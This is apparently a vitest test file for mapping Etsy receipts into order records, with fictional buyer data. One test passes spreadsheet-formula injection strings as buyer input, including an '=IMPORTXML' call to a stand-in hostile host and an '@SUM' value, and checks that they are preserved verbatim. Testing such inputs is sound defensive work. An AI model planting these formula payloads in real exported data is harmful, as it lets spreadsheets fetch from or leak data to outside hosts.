import { describe, expect, it } from "vitest";
import {
	etsyOrderUrl,
	etsyStatusInWords,
	moneyAmount,
	receiptToOrder,
} from "../../../src/platforms/etsy/receipt-mapping.js";
import { shopReceiptSchema } from "../../../src/platforms/etsy/schemas.js";
import { money, personalization, T0, variation, type Wire, wireReceipt, wireTransaction } from "./receipt-fixtures.js";

function order(overrides: Wire = {}) {
	return receiptToOrder(shopReceiptSchema.parse(wireReceipt(overrides)));
}

describe("receiptToOrder", () => {
	it("maps a plain paid order", () => {
		const result = order();
		expect(result).toEqual({
			orderId: "3000000001",
			orderUrl: "https://www.etsy.com/your/orders/sold?order_id=3000000001",
			orderedAt: T0 * 1000,
			updatedAt: (T0 + 60) * 1000,
			buyer: "Anna Nowak",
			buyerId: "222",
			email: "anna@example.com",
			shipTo: "Anna Nowak\nul. Długa 5\n01-234 Warszawa\nPoland",
			address: {
				name: "Anna Nowak",
				firstLine: "ul. Długa 5",
				secondLine: "",
				city: "Warszawa",
				state: "",
				zip: "01-234",
				countryIso: "PL",
			},
			items: "1 x Standing desk",
			itemLines: [{ listingId: "1500000001", sku: "DESK-OAK", title: "Standing desk", quantity: 1, options: [] }],
			buyerNote: "",
			total: 899,
			currency: "EUR",
			shipBy: (T0 + 14 * 86_400) * 1000,
			etsyStatus: "Paid",
			isPaid: true,
			isShipped: false,
			isGift: false,
			giftMessage: "",
			shipments: [],
		});
	});

	it("writes one line per transaction, quantity x title (variation values)", () => {
		const result = order({
			transactions: [
				wireTransaction({
					quantity: 2,
					title: "Standing desk",
					variations: [variation("Wood", "oak"), variation("Width", "140 cm", 514)],
				}),
				wireTransaction({ transaction_id: 9002, quantity: 1, title: "Monitor arm", sku: null, listing_id: null }),
			],
		});
		expect(result.items).toBe("2 x Standing desk (oak, 140 cm)\n1 x Monitor arm");
		expect(result.itemLines[0]?.options).toEqual(["oak", "140 cm"]);
		expect(result.itemLines[1]).toMatchObject({ listingId: "", sku: "", title: "Monitor arm" });
	});

	it("includes personalisation text in any language, with Etsy's label", () => {
		const texts = ["Für Opa Heinz", "Pour Élodie", "たなか", "Zosia ❤️", "Team Łódź 💪"];
		const result = order({
			transactions: texts.map((text, i) =>
				wireTransaction({ transaction_id: 9100 + i, variations: [variation("Wood", "ash"), personalization(text)] }),
			),
		});
		expect(result.items.split("\n")).toEqual(texts.map((text) => `1 x Standing desk (ash, Personalization: ${text})`));
		expect(result.itemLines[2]?.options).toEqual(["ash", "Personalization: たなか"]);
	});

	it("leaves out Etsy's placeholder for personalisation the buyer did not give", () => {
		const result = order({
			transactions: [wireTransaction({ variations: [personalization("Not requested on this item.")] })],
		});
		expect(result.items).toBe("1 x Standing desk");
	});

	it("takes the earliest expected ship date, and null when there is none", () => {
		const early = T0 + 3 * 86_400;
		expect(
			order({
				transactions: [
					wireTransaction({ expected_ship_date: T0 + 9 * 86_400 }),
					wireTransaction({ expected_ship_date: null }),
					wireTransaction({ expected_ship_date: early }),
				],
			}).shipBy,
		).toBe(early * 1000);
		expect(order({ transactions: [wireTransaction({ expected_ship_date: null })] }).shipBy).toBeNull();
		expect(order({ transactions: [] }).shipBy).toBeNull();
	});

	it("maps a gift with its message", () => {
		const result = order({ is_gift: true, gift_message: "Alles Gute zum Geburtstag, Papa!", gift_sender: "Lena" });
		expect(result.isGift).toBe(true);
		expect(result.giftMessage).toBe("Alles Gute zum Geburtstag, Papa!");
	});

	it("maps cancelled and refunded orders to words with a capital first letter", () => {
		expect(order({ status: "canceled", is_paid: true }).etsyStatus).toBe("Cancelled");
		expect(order({ status: "fully refunded" }).etsyStatus).toBe("Fully refunded");
		expect(order({ status: "partially refunded" }).etsyStatus).toBe("Partially refunded");
		const statuses = [
			"paid",
			"completed",
			"open",
			"payment processing",
			"canceled",
			"fully refunded",
			"partially refunded",
		];
		expect(statuses.map(etsyStatusInWords)).toEqual([
			"Paid",
			"Completed",
			"Open",
			"Payment processing",
			"Cancelled",
			"Fully refunded",
			"Partially refunded",
		]);
		expect(etsyStatusInWords("Fully Refunded")).toBe("Fully refunded");
	});

	it("gives an empty email when Etsy sends null or nothing", () => {
		expect(order({ buyer_email: null }).email).toBe("");
		const { buyer_email: _, ...withoutEmail } = wireReceipt();
		expect(receiptToOrder(shopReceiptSchema.parse(withoutEmail)).email).toBe("");
	});

	it("turns nullable address parts and a missing address into empty text", () => {
		const result = order({ formatted_address: null, first_line: null, city: null, zip: null, country_iso: null });
		expect(result.shipTo).toBe("");
		expect(result.address).toEqual({
			name: "Anna Nowak",
			firstLine: "",
			secondLine: "",
			city: "",
			state: "",
			zip: "",
			countryIso: "",
		});
	});

	it("keeps shipments", () => {
		const result = order({
			is_shipped: true,
			status: "completed",
			shipments: [
				{
					receipt_shipping_id: 1,
					shipment_notification_timestamp: T0,
					carrier_name: "InPost",
					tracking_code: "620123456789012345678901",
				},
			],
		});
		expect(result.shipments).toEqual([{ carrier: "InPost", trackingCode: "620123456789012345678901" }]);
	});

	it("keeps every character of text exactly as Etsy sent it", () => {
		const longNote = `${"Ą".repeat(2500)}${"x ".repeat(1250)}`;
		expect(longNote).toHaveLength(5000);
		const result = order({
			message_from_buyer: '=IMPORTXML("https://evil.test", "//a")',
			name: "  007  ",
			zip: "01-234",
			first_line: "+48 123",
			transactions: [wireTransaction({ title: "@SUM(1,2) desk 🌸", variations: [personalization("  Zosia\n❤️  ")] })],
			gift_message: longNote,
		});
		expect(result.buyerNote).toBe('=IMPORTXML("https://evil.test", "//a")');
		expect(result.buyer).toBe("  007  ");
		expect(result.address.zip).toBe("01-234");
		expect(result.address.firstLine).toBe("+48 123");
		expect(result.items).toBe("1 x @SUM(1,2) desk 🌸 (Personalization:   Zosia\n❤️  )");
		expect(result.giftMessage).toBe(longNote);
		expect(order({ message_from_buyer: longNote }).buyerNote).toBe(longNote);
	});

	it("keeps large receipt ids as text and builds the order link from them", () => {
		expect(order({ receipt_id: 9_007_199_254_740_991 }).orderId).toBe("9007199254740991");
		expect(etsyOrderUrl("3412345678")).toBe("https://www.etsy.com/your/orders/sold?order_id=3412345678");
	});

	it("divides money by its divisor", () => {
		expect(order({ grandtotal: money(123456, "USD") })).toMatchObject({ total: 1234.56, currency: "USD" });
		expect(order({ grandtotal: money(5000, "JPY", 1) })).toMatchObject({ total: 5000, currency: "JPY" });
		expect(moneyAmount({ amount: 1999, divisor: 100, currency_code: "GBP" })).toBe(19.99);
	});

	it("uses the other spelling of a timestamp when Etsy sends only one", () => {
		const { created_timestamp: _c, updated_timestamp: _u, ...rest } = wireReceipt();
		const result = receiptToOrder(shopReceiptSchema.parse(rest));
		expect(result.orderedAt).toBe(T0 * 1000);
		expect(result.updatedAt).toBe((T0 + 60) * 1000);
	});
});

describe("shopReceiptSchema", () => {
	it("names the field that is wrong", () => {
		const parsed = shopReceiptSchema.safeParse(
			wireReceipt({ grandtotal: { amount: 100, divisor: "100", currency_code: "EUR" } }),
		);
		expect(parsed.success).toBe(false);
		expect(parsed.error?.issues[0]?.path).toEqual(["grandtotal", "divisor"]);
	});

	it("insists on a timestamp under either spelling", () => {
		const { created_timestamp: _a, create_timestamp: _b, ...rest } = wireReceipt();
		const parsed = shopReceiptSchema.safeParse(rest);
		expect(parsed.error?.issues[0]?.path).toEqual(["created_timestamp"]);
	});

	it("accepts a status Etsy may add later", () => {
		expect(receiptToOrder(shopReceiptSchema.parse(wireReceipt({ status: "on hold" }))).etsyStatus).toBe("On hold");
	});
});
